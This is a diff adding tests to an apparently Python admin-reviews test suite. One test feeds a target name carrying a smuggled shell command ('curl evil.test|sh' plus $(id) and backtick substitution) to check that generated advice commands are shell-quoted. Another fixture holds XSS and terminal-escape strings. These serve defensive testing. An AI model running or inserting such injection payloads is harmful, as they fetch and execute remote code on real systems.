@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import re
+import shlex
 import shutil
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -115,6 +116,17 @@ async def test_a_day_and_a_month_are_reviewed_too(changed: Administered):
     assert (month["calls"], month["calls_before"]) == (2 * CALLS, 0)
 
 
+async def test_what_is_over_of_a_week_is_held_against_as_much_of_the_one_before(changed: Administered):
+    """At noon of a Wednesday: calls of days to come did not stay away."""
+    changed.clock.step(-(7 * 86_400) + 43_200)
+    review = (await changed.ask("GET", "/admin/reviews", period="week", ending="2026-11-16")).json
+    assert (review["from"], review["to"]) == ("2026-11-09T00:00:00Z", "2026-11-11T12:00:00Z")
+    assert review["calls"] == pytest.approx(review["calls_before"], rel=0.1)
+    assert review["calls"] < CALLS / 2
+    tomorrow = await changed.ask("GET", "/admin/reviews", period="day", ending="2026-11-13")
+    assert (tomorrow.status, tomorrow.params) == (422, ["ending"])
+
+
 async def test_without_any_calls_it_says_so(administered: Administered):
     review = (await administered.ask("GET", "/admin/reviews", period="day")).json
     assert (review["calls"], review["worse"], review["errors"], review["advice"]) == (0, [], [], [])
@@ -132,6 +144,17 @@ async def test_hostile_names_are_no_markup(administered: Administered):
         assert "\x1b" not in page
         assert "\u202e" not in page
         assert kind == "html" or not re.search(r"(?<!\\)\]\(javascript:", page)
+
+
+async def test_commands_of_advice_quote_names(administered: Administered):
+    """They are there to be copied into a shell."""
+    name = "a/b; curl evil.test|sh #$(id)`id`'"
+    rows = [(replace(call, target=name), replace(attempt, target=name, code="rate_limit_exceeded"))
+            for call, attempt in two_weeks(changed=False)[:: CALLS // 400]]  # fmt: skip
+    await kept(administered, rows)
+    review = (await administered.ask("GET", "/admin/reviews", period="week")).json
+    [limited] = [each for each in review["advice"] if each["kind"] == "rate_limited"]
+    assert shlex.split(limited["look"]) == ["headgate", "errors", "--of", f"target:{name}"]
 
 
 HOSTILE = "<script>alert(1)</script>|[x](javascript:y)\x1b[31m\u202e"
